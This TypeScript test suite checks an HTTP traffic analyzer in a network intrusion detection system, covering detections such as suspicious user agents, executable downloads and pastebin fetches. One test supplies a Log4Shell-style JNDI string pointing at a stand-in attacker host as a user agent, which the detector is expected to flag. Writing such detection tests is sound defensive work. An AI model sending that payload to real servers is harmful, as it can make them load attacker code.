import assert from "node:assert/strict";
import HttpAnalyzer from "../../../modules/http_analyzer/http_analyzer.ts";
import { runModule } from "../../helpers/module_harness.ts";
import { WeirdConnJoin } from "../../../modules/http_analyzer/weird_http_method.ts";
import { HostMacs } from "../../../modules/http_analyzer/host_macs.ts";
import type { ChannelMessage, Evidence } from "../../../core/mod.ts";
import { SLIPS_DATA } from "../../helpers/datasets.ts";
import { readZeekLog } from "../network_discovery_extras/zeek_log.ts";
import { arp, conn, dhcp, http, T0, weird } from "./records.ts";

const WIN_UA =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
const MAC_SAFARI =
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15";
const APPLE_MAC = "3c:07:54:11:22:33";
const LITEON_MAC = "50:5b:c2:db:c3:17";

const H = (data: ReturnType<typeof http>): ChannelMessage => ({ channel: "new_http", data });

async function run(messages: ChannelMessage[], config = {}) {
  return (await runModule(new HttpAnalyzer(), messages, config)).evidence;
}

function ofType(ev: Evidence[], type: string): Evidence[] {
  return ev.filter((e) => e.evidenceType === type);
}

Deno.test("HTTP_TRAFFIC: once per (profile, window), info, SRC → DST", async () => {
  const ev = await run([
    H(http()),
    H(http()),
    H(http({ daddr: "1.1.1.1" })),
    H(http({}, 2)),
  ]);
  const t = ofType(ev, "HTTP_TRAFFIC");
  // The second server in the same window adds nothing; the next window reports again.
  assert.equal(t.length, 2);
  assert.equal(t[1].twid, 2);
  assert.equal(t[0].threatLevel, "info");
  assert.equal(t[0].confidence, 1);
  assert.equal(t[0].attacker.value, "192.168.1.10");
  assert.equal(t[0].victim?.value, "93.184.216.34");
  assert.equal(t[0].profileIp, "192.168.1.10");
  assert.match(t[0].description, /Unencrypted HTTP/);
});

Deno.test("SUSPICIOUS_USER_AGENT: a jndi user agent must raise, a browser must not", async () => {
  const ev = await run([
    H(http({ userAgent: "${jndi:ldap://evil.example:1389/a}", host: "victim.example", uri: "/x" })),
    H(http({ userAgent: WIN_UA })),
  ]);
  const s = ofType(ev, "SUSPICIOUS_USER_AGENT");
  assert.equal(s.length, 1);
  assert.equal(s[0].threatLevel, "high");
  assert.equal(s[0].confidence, 1);
  assert.equal(s[0].attacker.direction, "SRC");
  assert.equal(s[0].profileIp, "192.168.1.10");
  assert.match(s[0].description, /jndi.*victim\.example\/x/);
});

Deno.test("MULTIPLE_USER_AGENT: a second OS raises once per window; same OS does not", async () => {
  const ev = await run([
    H(http({ userAgent: WIN_UA })),
    H(http({ userAgent: WIN_UA.replace("120.0.0.0", "121.0.0.0") })),
    H(http({ userAgent: MAC_SAFARI })),
    H(http({ userAgent: MAC_SAFARI })),
  ]);
  const m = ofType(ev, "MULTIPLE_USER_AGENT");
  assert.equal(m.length, 1);
  assert.equal(m[0].threatLevel, "info");
  assert.equal(m[0].confidence, 1);
  assert.equal(m[0].profileIp, "192.168.1.10");
  assert.match(m[0].description, /Windows 10.*Mac OS X/);
});

Deno.test("INCOMPATIBLE_USER_AGENT: Windows UA from an Apple NIC (MAC learned from DHCP)", async () => {
  const ev = await run([
    { channel: "new_dhcp", data: dhcp({ mac: APPLE_MAC }) },
    H(http({ userAgent: WIN_UA })),
    H(http({ userAgent: WIN_UA })),
  ]);
  const i = ofType(ev, "INCOMPATIBLE_USER_AGENT");
  assert.equal(i.length, 1, "deduplicated per (profile, window, UA)");
  assert.equal(i[0].threatLevel, "high");
  assert.equal(i[0].confidence, 1);
  assert.equal(i[0].attacker.value, "192.168.1.10");
  assert.equal(i[0].profileIp, "192.168.1.10");
  assert.match(i[0].description, /Apple, Inc\./);
});

Deno.test("INCOMPATIBLE_USER_AGENT: Safari from a Liteon NIC (MAC from a flow) raises", async () => {
  const ev = await run([
    { channel: "new_flow", data: conn({ smac: LITEON_MAC }) },
    H(http({ userAgent: MAC_SAFARI })),
  ]);
  assert.equal(ofType(ev, "INCOMPATIBLE_USER_AGENT").length, 1);
});

Deno.test("INCOMPATIBLE_USER_AGENT must not: Safari from Apple, unknown MAC, remote host's MAC", async () => {
  const ev = await run([
    { channel: "new_arp", data: arp({ smac: APPLE_MAC }) },
    H(http({ userAgent: MAC_SAFARI })),
    H(http({ saddr: "192.168.1.11", userAgent: WIN_UA })),
    // The MAC on a packet from a public address is the router's: it says nothing about the host.
    { channel: "new_flow", data: conn({ saddr: "8.8.8.8", smac: APPLE_MAC }) },
    H(http({ saddr: "8.8.8.8", userAgent: WIN_UA })),
  ]);
  assert.equal(ofType(ev, "INCOMPATIBLE_USER_AGENT").length, 0);
});

Deno.test("EMPTY_CONNECTIONS: the 4th empty request to one search engine raises, then restarts", async () => {
  const empty = () => H(http({ host: "www.google.com", uri: "/", requestBodyLen: 0 }));
  const ev = await run([empty(), empty(), empty(), empty(), empty(), empty(), empty()]);
  const e = ofType(ev, "EMPTY_CONNECTIONS");
  assert.equal(e.length, 1);
  assert.equal(e[0].threatLevel, "medium");
  assert.equal(e[0].confidence, 1);
  assert.equal(e[0].uids.length, 4);
  assert.equal(e[0].profileIp, "192.168.1.10");
  assert.match(e[0].description, /google\.com/);
});

Deno.test("EMPTY_CONNECTIONS must not: 3 requests, other paths, other hosts, split over windows", async () => {
  const ev = await run([
    H(http({ host: "google.com", uri: "/" })),
    H(http({ host: "google.com", uri: "/" })),
    H(http({ host: "google.com", uri: "/" })),
    H(http({ host: "google.com", uri: "/search" })),
    H(http({ host: "google.com", uri: "/", requestBodyLen: 10 })),
    H(http({ host: "maps.google.com", uri: "/" })),
    H(http({ saddr: "192.168.1.11", host: "google.com", uri: "/" })),
    H(http({ host: "google.com", uri: "/" }, 2)),
  ]);
  assert.equal(ofType(ev, "EMPTY_CONNECTIONS").length, 0);
});

Deno.test("EXECUTABLE_MIME_TYPE: paired LOW evidence, client's and server's profiles", async () => {
  const ev = await run([H(http({ respMimeTypes: ["application/x-dosexec"] }))]);
  const x = ofType(ev, "EXECUTABLE_MIME_TYPE");
  assert.equal(x.length, 2);
  const [a, b] = x;
  assert.equal(a.threatLevel, "low");
  assert.equal(a.confidence, 1);
  assert.equal(a.attacker.direction, "SRC");
  assert.equal(a.profileIp, "192.168.1.10");
  assert.equal(b.attacker.direction, "DST");
  assert.equal(b.attacker.value, "93.184.216.34");
  assert.equal(b.profileIp, "93.184.216.34");
  assert.deepEqual(a.relIds, [b.id]);
  assert.deepEqual(b.relIds, [a.id]);
});

Deno.test("EXECUTABLE_MIME_TYPE must not: images and near-miss types", async () => {
  const ev = await run([
    H(http({ respMimeTypes: ["image/png"] })),
    H(http({ respMimeTypes: ["application/x-dosexec-foo"] })),
  ]);
  assert.equal(ofType(ev, "EXECUTABLE_MIME_TYPE").length, 0);
});

Deno.test("PASTEBIN_DOWNLOAD: GET of more than 700 bytes from pastebin; 700 exactly must not", async () => {
  const ev = await run([
    H(http({ host: "pastebin.com", uri: "/raw/abc", responseBodyLen: 701 })),
    H(http({ host: "pastebin.com", uri: "/raw/abc", responseBodyLen: 700 })),
    H(http({ host: "pastebin.com", method: "POST", responseBodyLen: 5000 })),
    H(http({ host: "example.com", responseBodyLen: 5000 })),
  ]);
  const p = ofType(ev, "PASTEBIN_DOWNLOAD");
  assert.equal(p.length, 1);
  assert.equal(p[0].threatLevel, "info");
  assert.equal(p[0].confidence, 1);
  assert.equal(p[0].profileIp, "192.168.1.10");
  assert.match(p[0].description, /0\.001 MB/);
});

Deno.test("PASTEBIN_DOWNLOAD threshold comes from [flow_alerts] pastebin_download_threshold", async () => {
  const ev = await run(
    [H(http({ host: "pastebin.com", responseBodyLen: 5000 }))],
    { flow_alerts: { pastebin_download_threshold: "10000" } },
  );
  assert.equal(ofType(ev, "PASTEBIN_DOWNLOAD").length, 0);
});

Deno.test("WEIRD_HTTP_METHOD: from the weird's own tuple, or joined to a later connection", async () => {
  const w2 = weird({ uid: "Cjoin", saddr: "", daddr: "", addl: "BAR" });
  const ev = await run([
    { channel: "new_weird", data: weird({ addl: "FOO" }) },
    { channel: "new_weird", data: w2 },
    { channel: "new_flow", data: conn({ uid: "Cjoin", saddr: "10.0.0.5", daddr: "10.0.0.9" }) },
  ]);
  const w = ofType(ev, "WEIRD_HTTP_METHOD");
  assert.equal(w.length, 2);
  assert.equal(w[0].threatLevel, "medium");
  assert.equal(w[0].confidence, 0.9);
  assert.equal(w[0].attacker.value, "192.168.1.10");
  assert.equal(w[0].victim?.value, "93.184.216.34");
  assert.equal(w[0].profileIp, "192.168.1.10");
  assert.match(w[0].description, /"FOO".*Zeek/);
  assert.equal(w[1].profileIp, "10.0.0.5");
  assert.match(w[1].description, /"BAR"/);
});

Deno.test("WEIRD_HTTP_METHOD must not: other weirds, or no connection ever", async () => {
  const ev = await run([
    { channel: "new_weird", data: weird({ name: "DNS_TXT_char_str_past_rdlen" }) },
    { channel: "new_weird", data: weird({ saddr: "", daddr: "" }) },
  ]);
  assert.equal(ofType(ev, "WEIRD_HTTP_METHOD").length, 0);
});

Deno.test("WeirdConnJoin remembers the last maxRecent TCP connections, the newest per uid", () => {
  const join = new WeirdConnJoin(3);
  const late = (uid: string) =>
    join.addWeird(weird({ uid, saddr: "", daddr: "", addl: "X" }))?.conn.daddr;
  for (let i = 0; i < 7; i++) join.addConn(conn({ uid: `C${i}`, daddr: `10.0.0.${i}` }));
  join.addConn(conn({ uid: "C5", daddr: "10.0.0.55" }));
  join.addConn(conn({ uid: "Cudp", daddr: "10.0.0.77", proto: "udp" }));
  // The newest three TCP connections are kept, C5's newest one; C0..C4 are forgotten.
  assert.equal(late("C6"), "10.0.0.6");
  assert.equal(late("C5"), "10.0.0.55");
  for (const i of [0, 1, 2]) assert.equal(late(`C${i}`), undefined);
  assert.equal(late("Cudp"), undefined);
  // A weird that waited is handed to its connection once, and the connection is not kept.
  const joined = join.addConn(conn({ uid: "C0", daddr: "10.0.0.99" }));
  assert.equal(joined?.weird.uid, "C0");
  assert.equal(joined?.conn.daddr, "10.0.0.99");
  assert.equal(join.addConn(conn({ uid: "C0" })), undefined);
  assert.equal(join.unmatched, 3);
});

Deno.test("HostMacs stays bounded: a full table forgets its oldest hosts, keeps the newest", () => {
  const macs = new HostMacs(10);
  for (let i = 0; i < 25; i++) macs.learn(`192.168.0.${i}`, `00:11:22:33:44:${10 + i}`);
  assert.equal(macs.get("192.168.0.24"), "00:11:22:33:44:34");
  assert.equal(macs.get("192.168.0.0"), undefined);
  const kept = Array.from({ length: 25 }, (_, i) => macs.get(`192.168.0.${i}`)).filter(Boolean);
  assert.ok(kept.length <= 10 && kept.length >= 9, `kept ${kept.length}`);
});

Deno.test("state of a closed window is released: counting restarts", async () => {
  const empty = () => H(http({ host: "bing.com", uri: "/" }));
  const ev = await run([
    empty(),
    empty(),
    empty(),
    {
      channel: "tw_closed",
      data: {
        profileid: "profile_192.168.1.10",
        ip: "192.168.1.10",
        twid: 1,
        start: T0,
        end: T0 + 3600,
      },
    },
    empty(),
  ]);
  assert.equal(ofType(ev, "EMPTY_CONNECTIONS").length, 0);
});

Deno.test("real data: test9 http.log raises the jndi user agent; test14 the executable download", async () => {
  const t9 = readZeekLog<import("../../../core/mod.ts").HttpRecord>(
    `${SLIPS_DATA}/test9-mixed-zeek-dir/http.log`,
    "http",
  );
  const ev9 = await run(t9.map((data) => ({ channel: "new_http", data }) as ChannelMessage));
  const sus = ofType(ev9, "SUSPICIOUS_USER_AGENT");
  assert.equal(sus.length, 1);
  assert.match(sus[0].description, /jndi/);
  // The Chrome installer (application/x-dosexec): one pair.
  assert.equal(ofType(ev9, "EXECUTABLE_MIME_TYPE").length, 2);
  const windows = new Set(t9.map((r) => `${r.saddr}>${r.twid}`));
  assert.equal(ofType(ev9, "HTTP_TRAFFIC").length, windows.size);

  const t14 = readZeekLog<import("../../../core/mod.ts").HttpRecord>(
    `${SLIPS_DATA}/test14-malicious-zeek-dir/http.log`,
    "http",
  );
  const ev14 = await run(t14.map((data) => ({ channel: "new_http", data }) as ChannelMessage));
  const exe = ofType(ev14, "EXECUTABLE_MIME_TYPE");
  assert.equal(exe.length, 4);
  assert.ok(exe.some((e) => /application\/x-msdownload/.test(e.description)));
  // Wget next to Internet Explorer on one Windows host: several user agents.
  assert.ok(ofType(ev14, "MULTIPLE_USER_AGENT").some((e) => /Wget/.test(e.description)));
});
